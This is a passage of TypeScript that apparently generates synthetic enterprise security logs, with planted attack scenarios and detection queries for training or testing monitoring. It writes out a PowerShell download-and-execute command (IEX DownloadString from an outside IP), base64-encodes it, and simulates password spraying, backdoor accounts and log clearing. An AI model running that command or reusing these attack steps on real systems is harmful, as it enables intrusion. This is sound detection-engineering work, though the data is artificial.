    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
    let s = 'C';
    let x = (n * 2654435761) >>> 0;
    for (let i = 0; i < 17; i++) {
      s += alphabet[(x + i * n) % alphabet.length];
      x = Math.imul(x ^ (x >>> 13), 0x5bd1e995) >>> 0;
    }
    return s;
  }

  private zeekConn(t: number, src: string, dst: string, port: number, service: string, dur: number, up: number, down: number, rng: Rng): void {
    this.sinks.conn.add(t, JSON.stringify({
      ts: Number(epochSeconds(t, 6)), uid: this.nextZeekUid(), 'id.orig_h': src, 'id.orig_p': rng.int(49152, 65000), 'id.resp_h': dst, 'id.resp_p': port, proto: 'tcp', service,
      duration: Math.round(dur * 1000) / 1000, orig_bytes: up, resp_bytes: down, conn_state: 'SF', local_orig: true, local_resp: dst.startsWith('10.'), missed_bytes: 0, history: 'ShADadFf',
      orig_pkts: Math.ceil(up / 1400) + 2, orig_ip_bytes: up + 40 * (Math.ceil(up / 1400) + 2), resp_pkts: Math.ceil(down / 1400) + 2, resp_ip_bytes: down + 40 * (Math.ceil(down / 1400) + 2),
    }));
  }

  private fgtTraffic(t: number, src: string, dst: string, port: number, service: string, sent: number, rcvd: number, action: string, user: string | undefined, hostname: string | undefined, rng: Rng, policy = { id: 1, name: 'LAN-to-WAN' }): void {
    const { date, time } = fortiDateTime(t);
    const sport = rng.int(49152, 65000);
    const dur = rng.int(1, 600);
    this.sinks.fgt.add(t, `date=${date} time=${time} devname="FGT60F" devid="FGT60FTK20012345" eventtime=${t}000000 tz="+0900" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=${src} srcport=${sport} srcintf="internal" srcintfrole="lan" dstip=${dst} dstport=${port} dstintf="wan1" dstintfrole="wan" srccountry="Reserved" dstcountry="Japan" sessionid=${++this.fgtSession} proto=6 action="${action}" policyid=${policy.id} policytype="policy" policyname="${policy.name}"${user ? ` user="${user}"` : ''} service="${service}" trandisp="snat" transip=198.51.100.7 transport=${sport}${hostname ? ` hostname="${hostname}"` : ''} duration=${dur} sentbyte=${sent} rcvdbyte=${rcvd} sentpkt=${Math.ceil(sent / 1400) + 1} rcvdpkt=${Math.ceil(rcvd / 1400) + 1} appcat="unscanned"`);
  }

  private mailOut(p: Employee, t: number, rng: Rng, to?: string, size?: number): void {
    const id = (this.qid += rng.int(1, 4096)).toString(16).toUpperCase().padStart(10, '0');
    const pid = 2000 + rng.int(0, 7000);
    const host = `${p.host.toLowerCase()}.${FQDN}`;
    const external = to ?? (rng.chance(0.4) ? `${rng.pick(['buyer', 'info', 'sales', 'support', 'tanto'])}@${rng.pick(['partner.example.com', 'client.example.net', 'supplier.example.org'])}` : `${rng.pick(this.people).email}`);
    const bytes = size ?? rng.int(3000, 900_000);
    const m = this.sinks.mail;
    m.add(t, `${syslogStamp(t)} mail01 postfix/smtpd[${pid}]: connect from ${host}[${p.ip}]`);
    m.add(t + 100, `${syslogStamp(t + 100)} mail01 postfix/smtpd[${pid}]: ${id}: client=${host}[${p.ip}], sasl_method=PLAIN, sasl_username=${p.account}`);
    m.add(t + 200, `${syslogStamp(t + 200)} mail01 postfix/cleanup[${pid + 4}]: ${id}: message-id=<${jstDate(t).replace(/-/g, '')}${id}@mail01.example.co.jp>`);
    m.add(t + 300, `${syslogStamp(t + 300)} mail01 postfix/qmgr[1102]: ${id}: from=<${p.email}>, size=${bytes}, nrcpt=1 (queue active)`);
    if (external.endsWith('@example.co.jp')) {
      m.add(t + 700, `${syslogStamp(t + 700)} mail01 postfix/lmtp[${pid + 9}]: ${id}: to=<${external}>, relay=mail01.example.co.jp[private/dovecot-lmtp], delay=0.31, delays=0.08/0.01/0.02/0.2, dsn=2.0.0, status=sent (250 2.0.0 <${external}> ${rng.hex(22)} Saved)`);
    } else {
      const dom = external.split('@')[1];
      m.add(t + 1200, `${syslogStamp(t + 1200)} mail01 postfix/smtp[${pid + 9}]: ${id}: to=<${external}>, relay=mx1.${dom}[198.51.100.25]:25, delay=1.2, delays=0.08/0.01/0.45/0.66, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as ${rng.hex(10).toUpperCase()})`);
    }
    m.add(t + 1300, `${syslogStamp(t + 1300)} mail01 postfix/qmgr[1102]: ${id}: removed`);
    m.add(t + 1400, `${syslogStamp(t + 1400)} mail01 postfix/smtpd[${pid}]: disconnect from ${host}[${p.ip}] ehlo=1 auth=1 mail=1 rcpt=1 data=1 quit=1 commands=6`);
  }

  private mailIn(p: Employee, t: number, rng: Rng): void {
    const id = (this.qid += rng.int(1, 4096)).toString(16).toUpperCase().padStart(10, '0');
    const pid = 2000 + rng.int(0, 7000);
    const dom = rng.pick(['partner.example.com', 'client.example.net', 'supplier.example.org', 'news.example.jp']);
    const m = this.sinks.mail;
    m.add(t, `${syslogStamp(t)} mail01 postfix/smtpd[${pid}]: connect from mx1.${dom}[198.51.100.25]`);
    m.add(t + 100, `${syslogStamp(t + 100)} mail01 postfix/smtpd[${pid}]: ${id}: client=mx1.${dom}[198.51.100.25]`);
    m.add(t + 300, `${syslogStamp(t + 300)} mail01 postfix/qmgr[1102]: ${id}: from=<info@${dom}>, size=${rng.int(2000, 300_000)}, nrcpt=1 (queue active)`);
    m.add(t + 600, `${syslogStamp(t + 600)} mail01 postfix/lmtp[${pid + 9}]: ${id}: to=<${p.email}>, relay=mail01.example.co.jp[private/dovecot-lmtp], delay=0.4, delays=0.1/0.01/0.02/0.27, dsn=2.0.0, status=sent (250 2.0.0 <${p.email}> ${rng.hex(22)} Saved)`);
    m.add(t + 700, `${syslogStamp(t + 700)} mail01 postfix/qmgr[1102]: ${id}: removed`);
  }

  private print(p: Employee, t: number, rng: Rng, pages: number, title: string): void {
    const printer = p.dept.code === 'seizo' ? 'MFP_Factory' : rng.pick(['Color_MFP_3F', 'HP_LaserJet_3F']);
    this.sinks.cups.add(t, `${printer} ${p.account} ${++this.cupsJob} ${clfStamp(t)} total ${pages} - ${p.ip} ${title} iso_a4_210x297mm ${rng.pick(['one-sided', 'two-sided-long-edge'])}`);
  }

  private door(t: number, p: Employee, door: string, dir: '入室' | '退室', result = '許可', reason = ''): void {
    this.sinks.door.add(t, `${doorStamp(t)},${p.card},${p.account},${p.employeeId},${door},${dir},${result},${reason}`);
  }

  private dhcp(t: number, p: Employee): void {
    const s = this.sinks.dhcp;
    s.add(t, `${syslogStamp(t)} dhcp01 dhcpd[812]: DHCPREQUEST for ${p.ip} (10.0.0.2) from ${p.mac} (${p.host}) via eth0`);
    s.add(t + 20, `${syslogStamp(t + 20)} dhcp01 dhcpd[812]: DHCPACK on ${p.ip} to ${p.mac} (${p.host}) via eth0`);
  }

  private adminLinux(p: Employee, t: number, rng: Rng): void {
    const host = rng.pick(['web01', 'db01', 'bastion01']);
    const pid = (this.pid += rng.int(3, 40));
    const port = rng.int(49152, 65000);
    const s = this.sinks.secure;
    s.add(t, `${syslogStamp(t)} ${host} sshd[${pid}]: Accepted publickey for ${p.account} from ${p.ip} port ${port} ssh2: ED25519 SHA256:${rng.hex(16)}`);
    s.add(t + 30, `${syslogStamp(t + 30)} ${host} sshd[${pid}]: pam_unix(sshd:session): session opened for user ${p.account}(uid=${1001 + p.index}) by (uid=0)`);
    const cmds = ['/usr/bin/systemctl restart nginx', '/usr/bin/journalctl -u nginx', '/usr/bin/apt-get update', '/usr/bin/df -h', '/usr/bin/systemctl status postgresql'];
    const n = rng.int(1, 3);
    let u = t + 60_000;
    for (let i = 0; i < n; i++) {
      const cmd = rng.pick(cmds);
      s.add(u, `${syslogStamp(u)} ${host} sudo[${pid + 10 + i}]: ${p.account.padStart(8)} : TTY=pts/0 ; PWD=/home/${p.account} ; USER=root ; COMMAND=${cmd}`);
      const serial = ++this.auditSerial;
      this.sinks.audit.add(u, `node=${host} type=USER_CMD msg=audit(${epochSeconds(u)}:${serial}): pid=${pid + 10 + i} uid=${1001 + p.index} auid=${1001 + p.index} ses=${3 + i} subj=unconfined msg='cwd="/home/${p.account}" cmd=${Buffer.from(cmd.replace(/^\/usr\/bin\//, '')).toString('hex').toUpperCase()} exe="/usr/bin/sudo" terminal=pts/0 res=success'`);
      u += rng.int(30, 600) * 1000;
    }
    s.add(u, `${syslogStamp(u)} ${host} sshd[${pid}]: pam_unix(sshd:session): session closed for user ${p.account}`);
  }

  // ---------------------------------------------------------------- background noise

  private background(day: number, rng: Rng): void {
    // Internet noise: SSH scanners against the bastion, denied inbound on the firewall.
    const scans = rng.int(15, 40);
    for (let i = 0; i < scans; i++) {
      const t = day + Math.floor(rng.next() * DAY);
      const ip = `192.0.2.${rng.int(1, 250)}`;
      const pid = (this.pid += rng.int(1, 20));
      const user = rng.pick(['root', 'admin', 'test', 'oracle', 'ubuntu', 'pi']);
      const line = user === 'root' ? `Failed password for root from ${ip} port ${rng.int(30000, 65000)} ssh2` : `Invalid user ${user} from ${ip} port ${rng.int(30000, 65000)}`;
      this.sinks.secure.add(t, `${syslogStamp(t)} bastion01 sshd[${pid}]: ${line}`);
      this.sinks.secure.add(t + 900, `${syslogStamp(t + 900)} bastion01 sshd[${pid}]: Connection closed by ${user === 'root' ? 'authenticating user root ' : `invalid user ${user} `}${ip} port ${rng.int(30000, 65000)} [preauth]`);
      if (rng.chance(0.5)) {
        const { date, time } = fortiDateTime(t);
        this.sinks.fgt.add(t + 50, `date=${date} time=${time} devname="FGT60F" devid="FGT60FTK20012345" eventtime=${t + 50}000000 tz="+0900" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=${ip} srcport=${rng.int(30000, 65000)} srcintf="wan1" srcintfrole="wan" dstip=198.51.100.7 dstport=${rng.pick([23, 445, 3389, 8080])} dstintf="internal" dstintfrole="lan" sessionid=${++this.fgtSession} proto=6 action="deny" policyid=0 policytype="policy" service="tcp" duration=0 sentbyte=0 rcvdbyte=0`);
      }
    }
    // The HR application talks to its database all day.
    for (let i = 0; i < 40; i++) {
      const t = day + 8 * HOUR + Math.floor(rng.next() * 11 * HOUR);
      const pid = ++this.pgPid;
      const table = rng.pick(['employees', 'attendance', 'leave_requests']);
      this.sinks.pg.add(t, `${pgStamp(t)} [${pid}] hr_app@hrdb LOG:  connection authorized: user=hr_app database=hrdb application_name=hr-portal`);
      this.sinks.pg.add(t + 15, `${pgStamp(t + 15)} [${pid}] hr_app@hrdb LOG:  AUDIT: SESSION,${this.pgStmt++},1,READ,SELECT,TABLE,public.${table},"SELECT id, name, dept FROM ${table} WHERE id = $1",<not logged>`);
      if (rng.chance(0.2)) this.sinks.pg.add(t + 40, `${pgStamp(t + 40)} [${pid}] hr_app@hrdb LOG:  AUDIT: SESSION,${this.pgStmt++},1,WRITE,UPDATE,TABLE,public.attendance,"UPDATE attendance SET clock_out = now() WHERE emp_id = $1",<not logged>`);
    }
    this.sinks.pg.add(day + 3 * HOUR, `${pgStamp(day + 3 * HOUR)} [12300] LOG:  checkpoint complete: wrote ${rng.int(10, 900)} buffers (0.${rng.int(1, 9)}%)`);
    // Switch and AP chatter.
    for (let i = 0; i < 6; i++) {
      const t = day + 8 * HOUR + Math.floor(rng.next() * 10 * HOUR);
      const mac = `3c:22:fb:${rng.hex(2)}:${rng.hex(2)}:${rng.hex(2)}`;
      const ap = rng.pick(['ap-3f-01', 'ap-3f-02']);
      this.sinks.ap.add(t, `${syslogStamp(t)} ${ap} hostapd: wlan0: STA ${mac} IEEE 802.11: authenticated`);
      this.sinks.ap.add(t + 30, `${syslogStamp(t + 30)} ${ap} hostapd: wlan0: STA ${mac} IEEE 802.11: associated (aid ${rng.int(1, 30)})`);
      this.sinks.ap.add(t + 60, `${syslogStamp(t + 60)} ${ap} hostapd: wlan0: AP-STA-CONNECTED ${mac}`);
      this.sinks.ap.add(t + 2 * HOUR, `${syslogStamp(t + 2 * HOUR)} ${ap} hostapd: wlan0: STA ${mac} IEEE 802.11: disassociated`);
    }
    if (rng.chance(0.3)) {
      const t = day + 10 * HOUR + rng.int(0, 6 * 3600) * 1000;
      this.sinks.sw.add(t, `<189>${++this.ciscoSeq}: core-sw01: ${ciscoStamp(t)}: %SYS-5-CONFIG_I: Configured from console by netadmin on vty0 (10.0.0.10)`);
    }
    // Failed logons by people who mistype their password (one or two, then success).
    for (const p of this.people) {
      if (rng.chance(0.02)) {
        const t = day + (p.arrive - 2) * MINUTE;
        this.logon4625(t, p.account, p.ip, p.host);
      }
    }
  }

  // ---------------------------------------------------------------- scenarios

  private leaver(): Employee {
    return this.people.find((p) => p.watchlist)!;
  }

  private pickUser(filter: (p: Employee) => boolean, n = 0): Employee {
    const list = this.people.filter((p) => filter(p) && !p.night && !p.watchlist);
    return list[n % list.length];
  }

  /** Scenario days: all in the second half of the period, after a baseline. */
  private scenarioPlan(): { work: number[]; off: number[] } {
    const half = Math.floor(this.opts.days / 2);
    const work: number[] = [];
    const off: number[] = [];
    for (let d = half; d < this.opts.days; d++) (this.isOffDay(this.t0 + d * DAY) ? off : work).push(d);
    if (work.length === 0) work.push(this.opts.days - 1);
    return { work, off };
  }

  private at(d: number, hh: number, mm: number, ss = 0): number {
    return this.t0 + d * DAY + ((hh * 60 + mm) * 60 + ss) * 1000;
  }

  private record(s: Omit<Scenario, 'start' | 'end'>, start: number, end: number): void {
    const person = this.people.find((p) => p.account === s.who);
    const who = person ? { whoDisplayName: person.displayName, whoDepartment: person.dept.ja } : {};
    this.scenarios.push({ id: s.id, title: s.title, who: s.who, ...who, what: s.what, start: isoJst(start), end: isoJst(end), monitoringPoint: s.monitoringPoint, useCase: s.useCase, detections: s.detections });
  }

  private range(a: number, b: number): string {
    return `@timestamp:[${new Date(a).toISOString()} TO ${new Date(b).toISOString()}]`;
  }

  private actors(): Record<string, Employee> {
    return {
      admin: this.people.filter((p) => p.privileged)[0],
      victim: this.pickUser((p) => p.dept.code === 'eigyo', 0),
      explorer: this.pickUser((p) => p.dept.code === 'eigyo', 1),
      devReader: this.pickUser((p) => p.dept.code === 'kaihatsu', 0),
      uploader: this.pickUser((p) => p.dept.code === 'kaihatsu', 1),
      ransom: this.pickUser((p) => p.dept.code === 'somu', 0),
      psUser: this.pickUser((p) => p.dept.code === 'keiri', 0),
      restUser: this.pickUser((p) => p.dept.code === 'keiri', 1),
      portUser: this.pickUser((p) => p.dept.code === 'seizo', 0),
      saturator: this.pickUser((p) => p.dept.code === 'seizo', 1),
      lateWorker: this.pickUser((p) => p.dept.code === 'homu', 0),
      leaver: this.leaver(),
    };
  }

  /** The day on which the short-rest scenario ends late (the next day must be in the period). */
  private restDay(): number {
    const { work } = this.scenarioPlan();
    const k = work.findIndex((d, i) => i >= 9 % work.length && d + 1 < this.opts.days);
    return k >= 0 ? work[k] : (work.find((d) => d + 1 < this.opts.days) ?? work[0]);
  }

  private planActors(): void {
    const { work } = this.scenarioPlan();
    const a = this.actors();
    const w = (k: number): number => work[(k + (this.opts.scenarioShift ?? 0)) % work.length];
    this.replaced.add(`${a.lateWorker.account}@${w(8)}`);
    const rd = this.restDay();
    this.replaced.add(`${a.restUser.account}@${rd}`);
    this.replaced.add(`${a.restUser.account}@${rd + 1}`);
    const days: Array<[Employee, number]> = [[a.devReader, w(2)], [a.ransom, w(3)], [a.psUser, w(4)], [a.portUser, w(5)], [a.uploader, w(5)], [a.saturator, w(5)], [a.admin, w(6)], [a.explorer, w(7)]];
    for (const d of work) days.push([a.leaver, d]);
    for (const [p, d] of days) this.present.add(`${p.account}@${d}`);
  }

  private scenarioDay(d: number, _day: number, rng: Rng): void {
    const { work, off } = this.scenarioPlan();
    const w = (k: number): number => work[(k + (this.opts.scenarioShift ?? 0)) % work.length];
    const { admin, victim, explorer, devReader, uploader, ransom, psUser, restUser, portUser, saturator, lateWorker, leaver } = this.actors();

    // 1. Password spray from outside, then 2. escalation of the sprayed account to Domain Admins, backdoor, policy change, log clear.
    if (d === w(0)) {
      const t = this.at(d, 3, 10);
      const targets = this.people.filter((p) => !p.privileged).slice(0, Math.min(40, this.people.length - 5));
      targets.forEach((p, i) => this.logon4625(t + i * 17_000 + rng.int(0, 900), p.account, ATTACK.spray, '-'));
      const end = t + targets.length * 17_000 + 1000;
      this.record({ id: 'password-spray', title: 'Password spray from one external IP against many accounts', who: ATTACK.spray, what: `4625 failures (NTLM, network logon) against ${targets.length} different accounts, one try each, every ~17 s`, monitoringPoint: 'Intrusion: mass logon failures', useCase: '1 cyber attack', detections: [{ description: 'failed logons from the spraying IP', query: `event.code:4625 AND source.ip:${ATTACK.spray}`, minCount: targets.length }] }, t, end);

      // The spray hits: the victim's account logs on from the attacker's IP, joins Domain Admins.
      const t2 = end + 4 * MINUTE;
      const lid = '0x7a1f00';
      this.logon4624('dc', t2, 'DC01', victim, 3, ATTACK.spray, lid);
      this.sec('dc', t2 + 100, DC, 4672, [...this.subject(victim, lid), ['PrivilegeList', 'SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeDebugPrivilege']], 'Special privileges assigned to new logon.', { task: 12548, taskName: 'Special Logon' });
      this.sec('dc', t2 + 60_000, DC, 4728, [['MemberName', `CN=${victim.romaji},OU=営業部,DC=corp,DC=example,DC=co,DC=jp`], ['MemberSid', victim.sid], ['TargetUserName', 'Domain Admins'], ['TargetDomainName', DOMAIN], ['TargetSid', 'S-1-5-21-3623811015-3361044348-30300820-512'], ...this.subject(victim, lid), ['PrivilegeList', '-']], 'A member was added to a security-enabled global group.', { task: 13826, taskName: 'Security Group Management' });
      this.record({ id: 'escalation-domain-admins', title: 'A compromised sales account adds itself to Domain Admins', who: victim.account, what: `logon from ${ATTACK.spray} right after the spray, 4672 special logon, then 4728 into Domain Admins`, monitoringPoint: 'Intrusion: escalation to admin rights', useCase: '1 cyber attack', detections: [
        { description: 'member added to Domain Admins', query: 'event.code:4728 AND group.name:"Domain Admins"', minCount: 1 },
        { description: 'the victim logged on from the attacker IP', query: `event.code:4624 AND user.name:${victim.account} AND source.ip:${ATTACK.spray}`, minCount: 1 },
      ] }, t2, t2 + 60_000);

      const t3 = t2 + 6 * MINUTE;
      const bd = { sid: 'S-1-5-21-3623811015-3361044348-30300820-4242', account: 'svc_backup2' };
      const tgt: Array<[string, string]> = [['TargetUserName', bd.account], ['TargetDomainName', DOMAIN], ['TargetSid', bd.sid]];
      this.sec('dc', t3, DC, 4720, [...tgt, ...this.subject(victim, lid), ['PrivilegeList', '-'], ['SamAccountName', bd.account], ['DisplayName', '%%1793'], ['UserPrincipalName', `${bd.account}@${FQDN}`], ['HomeDirectory', '%%1793'], ['HomePath', '%%1793'], ['ScriptPath', '%%1793'], ['ProfilePath', '%%1793'], ['UserWorkstations', '%%1793'], ['PasswordLastSet', '%%1794'], ['AccountExpires', '%%1794'], ['PrimaryGroupId', '513'], ['AllowedToDelegateTo', '-'], ['OldUacValue', '0x0'], ['NewUacValue', '0x15'], ['UserAccountControl', '\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084'], ['UserParameters', '%%1793'], ['SidHistory', '-'], ['LogonHours', '%%1797']], 'A user account was created.', { task: 13824, taskName: 'User Account Management' });
      this.sec('dc', t3 + 2000, DC, 4722, [...tgt, ...this.subject(victim, lid)], 'A user account was enabled.', { task: 13824, taskName: 'User Account Management' });
      this.sec('dc', t3 + 3000, DC, 4724, [...tgt, ...this.subject(victim, lid)], "An attempt was made to reset an account's password.", { task: 13824, taskName: 'User Account Management' });
      this.sec('dc', t3 + 9000, DC, 4732, [['MemberName', '-'], ['MemberSid', bd.sid], ['TargetUserName', 'Administrators'], ['TargetDomainName', 'Builtin'], ['TargetSid', 'S-1-5-32-544'], ...this.subject(victim, lid), ['PrivilegeList', '-']], 'A member was added to a security-enabled local group.', { task: 13826, taskName: 'Security Group Management' });
      this.record({ id: 'backdoor-account', title: 'A backdoor account is created and made an administrator', who: victim.account, what: `4720 creates ${bd.account}, 4722 enables it, 4724 resets its password, 4732 adds it to Administrators`, monitoringPoint: 'Intrusion: account creation', useCase: '1 cyber attack, 3 audit', detections: [
        { description: 'account created', query: `event.code:4720 AND user.target.name:${bd.account}`, minCount: 1 },
        { description: 'added to Administrators', query: 'event.code:4732 AND group.name:Administrators', minCount: 1 },
      ] }, t3, t3 + 9000);

      const t4 = t3 + 5 * MINUTE;
      this.sec('dc', t4, DC, 4719, [...this.subject(victim, lid), ['CategoryId', '%%8276'], ['SubcategoryId', '%%12544'], ['SubcategoryGuid', '{0cce9215-69ae-11d9-bed3-505054503030}'], ['AuditPolicyChanges', '%%8448, %%8450']], 'System audit policy was changed.', { task: 13568, taskName: 'Audit Policy Change' });
      this.win('dc', { t: t4 + 90_000, id: 1102, provider: 'Microsoft-Windows-Eventlog', channel: 'Security', computer: DC, audit: 'success', task: 104, data: [['SubjectUserSid', victim.sid], ['SubjectUserName', victim.account], ['SubjectDomainName', DOMAIN], ['SubjectLogonId', lid]], userData: { element: 'LogFileCleared', ns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' }, message: 'The audit log was cleared.' });
      this.record({ id: 'audit-policy-and-log-clear', title: 'Audit policy weakened, then the Security log cleared', who: victim.account, what: '4719 removes logon auditing on DC01, 1102 clears the Security log 90 s later', monitoringPoint: 'Intrusion: policy change', useCase: '1 cyber attack, 3 audit', detections: [
        { description: 'audit policy changed', query: 'event.code:4719', minCount: 1 },
        { description: 'security log cleared', query: 'event.code:1102', minCount: 1 },
      ] }, t4, t4 + 90_000);
    }

    // 3. SSH brute force against the bastion.
    if (d === w(1)) {
      const t = this.at(d, 1, 40);
      const n = 240;
      let pid = 40000;
      for (let i = 0; i < n; i++) {
        const u = t + i * 4000 + rng.int(0, 1500);
        const user = i % 4 === 3 ? rng.pick(['admin', 'oracle', 'postgres']) : 'root';
        const msg = user === 'root' ? `Failed password for root from ${ATTACK.brute} port ${40000 + i} ssh2` : `Failed password for invalid user ${user} from ${ATTACK.brute} port ${40000 + i} ssh2`;
        this.sinks.secure.add(u, `${syslogStamp(u)} bastion01 sshd[${pid + Math.floor(i / 6)}]: ${msg}`);
      }
      // The last guess works: root logs in from the attacker and leaves a Linux backdoor account.
      const ok = t + n * 4000 + 3000;
      const sp = pid + 100;
      const s = this.sinks.secure;
      s.add(ok, `${syslogStamp(ok)} bastion01 sshd[${sp}]: Accepted password for root from ${ATTACK.brute} port 47001 ssh2`);
      s.add(ok + 20, `${syslogStamp(ok + 20)} bastion01 sshd[${sp}]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)`);
      const ua = ok + 95_000;
      s.add(ua, `${syslogStamp(ua)} bastion01 groupadd[${sp + 7}]: group added to /etc/group: name=sysupd, GID=1050`);
      s.add(ua + 1, `${syslogStamp(ua + 1)} bastion01 groupadd[${sp + 7}]: new group: name=sysupd, GID=1050`);
      s.add(ua + 5, `${syslogStamp(ua + 5)} bastion01 useradd[${sp + 8}]: new user: name=sysupd, UID=1050, GID=1050, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0`);
      s.add(ua + 9000, `${syslogStamp(ua + 9000)} bastion01 passwd[${sp + 9}]: pam_unix(passwd:chauthtok): password changed for sysupd`);
      s.add(ua + 21_000, `${syslogStamp(ua + 21_000)} bastion01 usermod[${sp + 10}]: add 'sysupd' to group 'sudo'`);
      s.add(ua + 21_001, `${syslogStamp(ua + 21_001)} bastion01 usermod[${sp + 10}]: add 'sysupd' to shadow group 'sudo'`);
      s.add(ua + 300_000, `${syslogStamp(ua + 300_000)} bastion01 sshd[${sp}]: pam_unix(sshd:session): session closed for user root`);
      this.record({ id: 'ssh-brute-force', title: 'SSH brute force from one external IP, then a Linux backdoor account', who: ATTACK.brute, what: `${n} failed passwords for root and common accounts on bastion01 in 16 minutes; the last guess logs in as root, which adds the account sysupd to sudo`, monitoringPoint: 'Intrusion: mass logon failures, account creation', useCase: '1 cyber attack', detections: [
        { description: 'sshd failures from the attacker', query: `event.outcome:failure AND source.ip:${ATTACK.brute}`, minCount: 200 },
        { description: 'root logged in from the attacker', query: `event.action:logged-in AND user.name:root AND source.ip:${ATTACK.brute}`, minCount: 1 },
        { description: 'Linux account created', query: 'host.name:bastion01 AND event.action:added-user-account AND user.target.name:sysupd', minCount: 1 },
      ] }, t, ua + 300_000);
    }

    // 4. Mass file reads by one developer in the evening.
    if (d === w(2)) {
      const t = this.at(d, 19, 5);
      const lid = '0xd00d01';
      let u = t;
      const n = 600;
      for (let i = 0; i < n; i++) u = this.fileAccess(u + rng.int(400, 2200), 'FS01', devReader, lid, `C:\\Shares\\開発\\製品設計\\図面_${String(i + 1).padStart(4, '0')}.dwg`, 'read');
      this.record({ id: 'mass-file-reads', title: 'One developer reads 600 design files in 15 minutes', who: devReader.account, what: `${n} distinct files under C:\\Shares\\開発\\製品設計 read from FS01`, monitoringPoint: 'Information gathering / insider: mass file reads', useCase: '1 cyber attack, 2 insider', detections: [{ description: 'read records for the design folder', query: `event.action:read-file AND user.name:${devReader.account} AND file.path:*製品設計*`, minCount: n }] }, t, u);
    }

    // 5. Ransomware-like rename burst from the victim's PC on the 総務 share at night.
    if (d === w(3)) {
      const t = this.at(d, 2, 14);
      const lid = '0x1c93a0e';
      const proc = '0x2b1c';
      const exe = 'C:\\Users\\Public\\svch0st.exe';
      let u = t;
      const n = 300;
      for (let i = 0; i < n; i++) {
        const dir = `C:\\Shares\\総務\\${rng.pick(['規程', '契約', '備品', '2026年度'])}`;
        const name = `${rng.pick(SHARE_FILES)}_${i + 1}${rng.pick(EXTS)}`;
        const path = `${dir}\\${name}`;
        const comp = `FS02.${FQDN}`;
        const base = this.subject(ransom, lid);
        const h1 = hex((this.handle += 4));
        this.sec('fs', u, comp, 4656, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h1], ['TransactionId', '{00000000-0000-0000-0000-000000000000}'], ['AccessList', '%%1537\n\t\t\t\t%%1541\n\t\t\t\t%%4423\n\t\t\t\t'], ['AccessReason', '-'], ['AccessMask', '0x110080'], ['PrivilegeList', '-'], ['RestrictedSidCount', '0'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'A handle to an object was requested.', { version: 1, task: 12800, taskName: 'File System' });
        this.sec('fs', u + 2, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h1], ['AccessList', '%%1537\n\t\t\t\t'], ['AccessMask', '0x10000'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'An attempt was made to access an object.', { version: 1, task: 12800, taskName: 'File System' });
        const h2 = hex((this.handle += 4));
        this.sec('fs', u + 3, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', dir], ['HandleId', h2], ['AccessList', '%%4417\n\t\t\t\t'], ['AccessMask', '0x2'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'An attempt was made to access an object.', { version: 1, task: 12800, taskName: 'File System' });
        this.sec('fs', u + 5, comp, 4658, [...base, ['ObjectServer', 'Security'], ['HandleId', h1], ['ProcessId', proc], ['ProcessName', exe]], 'The handle to an object was closed.', { task: 12800, taskName: 'File System' });
        const h3 = hex((this.handle += 4));
        this.sec('fs', u + 7, comp, 4656, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', `${path}.lockbit`], ['HandleId', h3], ['TransactionId', '{00000000-0000-0000-0000-000000000000}'], ['AccessList', '%%1541\n\t\t\t\t%%4424\n\t\t\t\t'], ['AccessReason', '-'], ['AccessMask', '0x100100'], ['PrivilegeList', '-'], ['RestrictedSidCount', '0'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'A handle to an object was requested.', { version: 1, task: 12800, taskName: 'File System' });
        this.sec('fs', u + 8, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', `${path}.lockbit`], ['HandleId', h3], ['AccessList', '%%4424\n\t\t\t\t'], ['AccessMask', '0x100'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'An attempt was made to access an object.', { version: 1, task: 12800, taskName: 'File System' });
        this.sec('fs', u + 9, comp, 4658, [...base, ['ObjectServer', 'Security'], ['HandleId', h3], ['ProcessId', proc], ['ProcessName', exe]], 'The handle to an object was closed.', { task: 12800, taskName: 'File System' });
        u += rng.int(250, 450);
      }
      this.record({ id: 'ransomware-rename-burst', title: 'Ransomware-like burst of renames on the 総務 share', who: ransom.account, what: `${n} files renamed to *.lockbit by ${exe} in about 2 minutes at night`, monitoringPoint: 'Information gathering: mass renames (ransomware)', useCase: '1 cyber attack', detections: [{ description: 'renames by the victim account', query: `event.action:renamed-file AND user.name:${ransom.account}`, minCount: Math.floor(n * 0.9) }] }, t, u);
    }

    // 6. Encoded PowerShell on an accounting PC.
    if (d === w(4)) {
      const t = this.at(d, 14, 22);
      const comp = `${psUser.host}.${FQDN}`;
      const script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.99/a.ps1')";
      const enc = Buffer.from(script, 'utf16le').toString('base64');
      this.sec('ws', t, comp, 4688, [...this.subject(psUser, '0x2a81f3c'), ['NewProcessId', '0x1f4c'], ['NewProcessName', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'], ['TokenElevationType', '%%1938'], ['ProcessId', '0x1a2c'], ['CommandLine', `powershell.exe -NoP -NonI -W Hidden -Enc ${enc}`], ['TargetUserSid', 'S-1-0-0'], ['TargetUserName', '-'], ['TargetDomainName', '-'], ['TargetLogonId', '0x0'], ['ParentProcessName', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE'], ['MandatoryLabel', 'S-1-16-8192']], 'A new process has been created.', { version: 2, task: 13312, taskName: 'Process Creation' });
